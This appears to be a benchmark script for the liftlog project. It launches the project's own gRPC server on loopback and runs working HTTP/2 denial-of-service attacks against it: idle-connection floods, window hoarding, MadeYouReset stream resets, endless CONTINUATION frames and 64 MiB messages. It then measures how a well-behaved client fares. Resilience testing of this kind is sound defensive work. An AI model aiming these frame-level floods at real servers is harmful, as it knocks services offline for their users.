"""Hostile gRPC clients against a real server, with a well-behaved client alongside: prints JSON.

    python bench/rpc_hostile.py [--duration S] [--only idle,nonreading,...] [--budget BYTES]

Starts ``liftlog server`` (embedded NATS, temporary directory, free ports), then runs each attack
for ``--duration`` seconds in a child process while this process publishes (ack from the leader)
and reads back with liftlog's client. For each phase it reports the server's RSS (before, peak,
2 s after), the server's CPU, the good client's publish latency (p50, p99, max) and failures,
what the attacker achieved, and the server's own counters (buffer budget, stalled and refused
connections, resets sent). The attacks, as issue 35 names them:

- ``idle``: 3,000 connections that say the preface and SETTINGS, then nothing.
- ``nonreading``: 500 connections, each with 16 Publish calls that announce a 1 MB message and
  send as much of it as the windows allow, never finishing it and never reading a response.
- ``madeyoureset``: streams the server must reset (WINDOW_UPDATE 0 on an open stream), as fast as
  the socket takes them, reconnecting after every GOAWAY.
- ``continuation``: a HEADERS frame without END_HEADERS, then CONTINUATION frames without end.
- ``huge``: Publish calls carrying a 64 MiB message, over and over, on 4 connections.

The figures depend on the machine; compare phases of one run, not runs of different days.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import multiprocessing
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path
from typing import Any

import hpack

from liftlog.rpc import wire
from liftlog.rpc.wire import END_HEADERS, FrameType

PHASES = ("baseline", "idle", "nonreading", "madeyoureset", "continuation", "huge")
PUBLISH = "/proto.API/Publish"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


# -- the server ----------------------------------------------------------------------


class Server:
    def __init__(self, root: Path, settings: list[str]) -> None:
        self.port, self.nats_port, self.metrics_port = free_port(), free_port(), free_port()
        self.address = f"127.0.0.1:{self.port}"
        command = [sys.executable, "-m", "liftlog.cli.main", "server", "--host", "127.0.0.1", "--port", str(self.port)]
        command += ["--embedded-nats", "--embedded-nats-port", str(self.nats_port), "--data-dir", str(root / "data")]
        command += ["--log-level", "warn", "--set", f"metrics.listen=127.0.0.1:{self.metrics_port}"]
        for setting in settings:
            command += ["--set", setting]
        self.log = open(root / "server.log", "wb")  # noqa: SIM115 (closed in stop)
        self.proc = subprocess.Popen(command, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)

    def rss(self) -> int:
        for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
        return 0

    def cpu_seconds(self) -> float:
        fields = Path(f"/proc/{self.proc.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def metrics(self) -> dict[str, float]:
        wanted = (
            "liftlog_rpc_connections",
            "liftlog_rpc_connections_refused_total",
            "liftlog_rpc_connections_cooled_total",
            "liftlog_rpc_connections_stalled_total",
            "liftlog_rpc_buffer_budget_used_bytes",
            "liftlog_rpc_buffer_budget_withheld_total",
            "liftlog_rpc_streams_reset_sent_total",
        )
        out: dict[str, float] = {}
        with urllib.request.urlopen(f"http://127.0.0.1:{self.metrics_port}/metrics", timeout=5) as r:
            for line in r.read().decode().splitlines():
                name, _, value = line.partition(" ")
                if name in wanted:
                    out[name.removeprefix("liftlog_rpc_")] = float(value)
        return out

    def stop(self) -> None:
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        self.log.close()


# -- attacks (in a child process) ----------------------------------------------------------


def headers_frame(encoder: hpack.Encoder, sid: int, flags: int = END_HEADERS) -> bytes:
    block = encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PUBLISH),
            (":authority", "127.0.0.1"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    return wire.frame(FrameType.HEADERS, flags, sid, block)


class Tally:
    def __init__(self) -> None:
        self.connections = 0
        self.failed_connects = 0
        self.goaways: dict[str, int] = {}
        self.bytes_sent = 0
        self.frames_sent = 0

    def goaway(self, data: bytes) -> None:
        """Note the GOAWAY codes in what the server sent."""
        pos = 0
        while len(data) - pos >= 9:
            length = int.from_bytes(data[pos : pos + 3], "big")
            if data[pos + 3] == FrameType.GOAWAY and len(data) - pos >= 17:
                code = wire.ErrorCode(struct.unpack_from(">L", data, pos + 13)[0]).name
                self.goaways[code] = self.goaways.get(code, 0) + 1
            pos += 9 + length


#: The attacker's source address: all of 127/8 is loopback, so the server tells attackers from the good client
#: (127.0.0.1) by address, as it would on a network. Each phase attacks from one of its own, so that one
#: attack's cooldown (rpc.abuse.cooldown) does not stop the next.
SOURCE = "127.0.0.2"


async def connect(port: int, tally: Tally) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
    except OSError:
        tally.failed_connects += 1
        return None
    tally.connections += 1
    writer.write(wire.PREFACE + wire.settings_frame([]))
    return reader, writer


async def attack_idle(port: int, stop: float, tally: Tally) -> None:
    conns = []
    for _ in range(3000):
        c = await connect(port, tally)
        if c is not None:
            conns.append(c)
    while time.monotonic() < stop:
        await asyncio.sleep(0.2)
    for _, w in conns:
        w.close()


async def hoarder(port: int, stop: float, tally: Tally, streams: int = 16, announce: int = 1_000_000) -> None:
    """Fill every window the server grants with messages that never finish; read only WINDOW_UPDATEs."""
    c = await connect(port, tally)
    if c is None:
        return
    reader, writer = c
    encoder = hpack.Encoder()
    conn_window = wire.DEFAULT_WINDOW
    stream_windows: dict[int, int] = {}
    left: dict[int, int] = {}
    for i in range(streams):
        sid = 1 + 2 * i
        writer.write(headers_frame(encoder, sid))
        stream_windows[sid] = wire.DEFAULT_WINDOW
        left[sid] = announce + 5
    first = dict.fromkeys(left, True)
    chunk = b"\xaa" * 16_384
    buf = b""
    while time.monotonic() < stop:
        for sid in list(left):
            room = min(conn_window, stream_windows[sid], left[sid], 16_384)
            if room < 5:
                continue
            payload = struct.pack(">BL", 0, announce) + chunk[: room - 5] if first[sid] else chunk[:room]
            first[sid] = False
            writer.write(wire.frame(FrameType.DATA, 0, sid, payload))
            conn_window -= room
            stream_windows[sid] -= room
            left[sid] -= room
            tally.bytes_sent += room
        try:
            await asyncio.wait_for(writer.drain(), 1)
            data = await asyncio.wait_for(reader.read(65536), 0.5)
        except (TimeoutError, OSError):
            continue
        if not data:
            break
        buf += data
        tally.goaway(buf)
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            if len(buf) - pos - 9 < length:
                break
            kind, sid = buf[pos + 3], struct.unpack_from(">L", buf, pos + 5)[0] & 0x7FFFFFFF
            if kind == FrameType.WINDOW_UPDATE:
                inc = struct.unpack_from(">L", buf, pos + 9)[0] & 0x7FFFFFFF
                if sid == 0:
                    conn_window += inc
                elif sid in stream_windows:
                    stream_windows[sid] += inc
            pos += 9 + length
        buf = buf[pos:]
    writer.close()


async def attack_nonreading(port: int, stop: float, tally: Tally) -> None:
    await asyncio.gather(*(hoarder(port, stop, tally) for _ in range(500)))


async def reconnecting(port: int, stop: float, tally: Tally, attack: Any) -> None:
    """Run ``attack(reader, writer)`` on a new connection, again after each one the server closes, until ``stop``."""
    while time.monotonic() < stop:
        c = await connect(port, tally)
        if c is None:
            await asyncio.sleep(0.1)
            continue
        reader, writer = c
        with contextlib.suppress(OSError, TimeoutError):
            await attack(reader, writer)
        writer.close()


async def glance(reader: asyncio.StreamReader, tally: Tally) -> bytes | None:
    """What the server sent meanwhile, without waiting for it (None: nothing yet)."""
    try:
        data = await asyncio.wait_for(reader.read(1 << 16), 0.001)
    except TimeoutError:
        return None
    tally.goaway(data)
    return data


def made_you_reset(encoder: hpack.Encoder, sid: int) -> bytes:
    return headers_frame(encoder, sid) + wire.frame(FrameType.WINDOW_UPDATE, 0, sid, b"\0\0\0\0")


async def attack_madeyoureset(port: int, stop: float, tally: Tally) -> None:
    async def resets(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        encoder = hpack.Encoder()
        sid = 1
        while time.monotonic() < stop and not reader.at_eof():
            burst = b"".join(made_you_reset(encoder, sid + 2 * i) for i in range(50))
            sid += 100
            writer.write(burst)
            tally.bytes_sent += len(burst)
            tally.frames_sent += 50
            await writer.drain()
            if await glance(reader, tally) == b"":
                return

    await asyncio.gather(*(reconnecting(port, stop, tally, resets) for _ in range(4)))


async def attack_continuation(port: int, stop: float, tally: Tally) -> None:
    junk = wire.frame(FrameType.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000)

    async def continuations(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(headers_frame(hpack.Encoder(), 1, flags=0))
        while time.monotonic() < stop and not reader.at_eof():
            writer.write(junk)
            tally.bytes_sent += len(junk)
            tally.frames_sent += 1
            await writer.drain()
            await glance(reader, tally)

    await asyncio.gather(*(reconnecting(port, stop, tally, continuations) for _ in range(4)))


async def attack_huge(port: int, stop: float, tally: Tally) -> None:
    size = 64 << 20
    piece = b"\x55" * 16_384

    async def huge_messages(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        encoder = hpack.Encoder()
        sid = 1
        window = wire.DEFAULT_WINDOW  # the attacker honours windows: it wants its bytes read
        while time.monotonic() < stop and not reader.at_eof():
            writer.write(headers_frame(encoder, sid))
            sent = 0
            first = True
            while sent < size + 5 and time.monotonic() < stop:
                payload = struct.pack(">BL", 0, size) + piece[:-5] if first else piece
                first = False
                while window < len(payload) and time.monotonic() < stop:
                    data = await asyncio.wait_for(reader.read(1 << 16), 2)
                    if not data:
                        return
                    tally.goaway(data)
                    window += _window_updates(data)
                writer.write(wire.frame(FrameType.DATA, 0, sid, payload))
                window -= len(payload)
                sent += len(payload)
                tally.bytes_sent += len(payload)
                await writer.drain()
            sid += 2

    await asyncio.gather(*(reconnecting(port, stop, tally, huge_messages) for _ in range(4)))


def _window_updates(data: bytes) -> int:
    """Connection-level credit in whole frames of ``data`` (a rough reading: frames may be split)."""
    total, pos = 0, 0
    while len(data) - pos >= 9:
        length = int.from_bytes(data[pos : pos + 3], "big")
        if (
            data[pos + 3] == FrameType.WINDOW_UPDATE
            and len(data) - pos >= 13
            and struct.unpack_from(">L", data, pos + 5)[0] & 0x7FFFFFFF == 0
        ):
            total += struct.unpack_from(">L", data, pos + 9)[0] & 0x7FFFFFFF
        pos += 9 + length
    return total


ATTACKS = {
    "idle": attack_idle,
    "nonreading": attack_nonreading,
    "madeyoureset": attack_madeyoureset,
    "continuation": attack_continuation,
    "huge": attack_huge,
}


def run_attack(name: str, port: int, duration: float, out: Any) -> None:
    global SOURCE
    SOURCE = f"127.0.0.{10 + list(ATTACKS).index(name)}"
    tally = Tally()
    stop = time.monotonic() + duration
    try:
        asyncio.run(ATTACKS[name](port, stop, tally))
    finally:
        out.send(vars(tally))


# -- the well-behaved client -------------------------------------------------------------------


async def good_client(address: str, stream: str, duration: float) -> dict[str, Any]:
    from liftlog.client import AckPolicy, Client, StartPosition, StopPosition

    latencies: list[float] = []
    failures: list[str] = []
    value = b"g" * 256
    async with Client([address], timeout=10.0) as client:
        stop = time.monotonic() + duration
        while time.monotonic() < stop:
            t0 = time.perf_counter()
            try:
                await client.publish(stream, value, ack_policy=AckPolicy.LEADER)
                latencies.append(time.perf_counter() - t0)
            except Exception as exc:
                failures.append(f"{type(exc).__name__}: {exc}"[:200])
                await asyncio.sleep(0.1)
        read = 0
        try:
            sub = client.subscribe(
                stream, start_position=StartPosition.EARLIEST, stop_position=StopPosition.STOP_LATEST
            )
            async for _ in sub:
                read += 1
        except Exception as exc:
            failures.append(f"read: {type(exc).__name__}: {exc}"[:200])
    latencies.sort()

    def pct(q: float) -> float | None:
        return round(latencies[min(len(latencies) - 1, int(q * len(latencies)))] * 1000, 2) if latencies else None

    return {
        "published": len(latencies),
        "per_s": round(len(latencies) / duration),
        "failed": len(failures),
        "failures": sorted(set(failures))[:3],
        "p50_ms": pct(0.5),
        "p99_ms": pct(0.99),
        "max_ms": round(latencies[-1] * 1000, 2) if latencies else None,
        "read_back_total": read,
    }


async def phase(server: Server, name: str, duration: float) -> dict[str, Any]:
    from liftlog.client import Client

    stream = f"good-{name}"
    async with Client([server.address]) as client:
        await client.create_stream(stream, stream)
    rss_before, cpu_before = server.rss(), server.cpu_seconds()
    peak = rss_before
    attacker = None
    got, sent = multiprocessing.Pipe(duplex=False)
    if name != "baseline":
        attacker = multiprocessing.Process(target=run_attack, args=(name, server.port, duration, sent))
        attacker.start()
        await asyncio.sleep(min(3.0, duration / 4))  # let the attack build up first

    async def sample() -> None:
        nonlocal peak
        while True:
            peak = max(peak, server.rss())
            await asyncio.sleep(0.1)

    sampler = asyncio.ensure_future(sample())
    good = await good_client(server.address, stream, duration * 0.7 if attacker else duration)
    counters = server.metrics()
    tally: dict[str, Any] = {}
    if attacker is not None:
        tally = await asyncio.to_thread(got.recv)
        attacker.join()
    cpu = server.cpu_seconds() - cpu_before
    await asyncio.sleep(2.0)
    sampler.cancel()
    return {
        "phase": name,
        "rss_before_mb": round(rss_before / 2**20, 1),
        "rss_peak_mb": round(peak / 2**20, 1),
        "rss_after_mb": round(server.rss() / 2**20, 1),
        "server_cpu_s": round(cpu, 2),
        "good_client": good,
        "attacker": tally,
        "server_counters": counters,
    }


async def main_async(args: argparse.Namespace) -> dict[str, Any]:
    from liftlog.client import Client

    root = Path(tempfile.mkdtemp(prefix="liftlog-hostile-"))
    settings = [f"rpc.max.buffered.bytes={args.budget}"] if args.budget is not None else []
    server = Server(root, settings)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                async with Client([server.address], timeout=1.0, retries=0) as probe:
                    await probe.fetch_metadata()
                break
            except Exception:
                if time.monotonic() > deadline or server.proc.poll() is not None:
                    raise SystemExit(f"the server did not start: {(root / 'server.log').read_text()[-2000:]}") from None
                await asyncio.sleep(0.2)
        results = []
        for name in args.only:
            results.append(await phase(server, name, args.duration))
            print(json.dumps(results[-1]), file=sys.stderr, flush=True)
        return {"bench": "rpc_hostile", "duration_s": args.duration, "budget": args.budget, "phases": results}
    finally:
        server.stop()
        shutil.rmtree(root, ignore_errors=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--duration", type=float, default=15.0, help="seconds each attack runs")
    parser.add_argument("--only", default=",".join(PHASES), help="phases to run, comma-separated")
    parser.add_argument("--budget", default=None, help="rpc.max.buffered.bytes for the server (default: its own)")
    args = parser.parse_args()
    args.only = [p for p in args.only.split(",") if p]
    unknown = set(args.only) - set(PHASES)
    if unknown:
        parser.error(f"unknown phases {sorted(unknown)}; choose from {', '.join(PHASES)}")
    print(json.dumps(asyncio.run(main_async(args))))


if __name__ == "__main__":
    main()
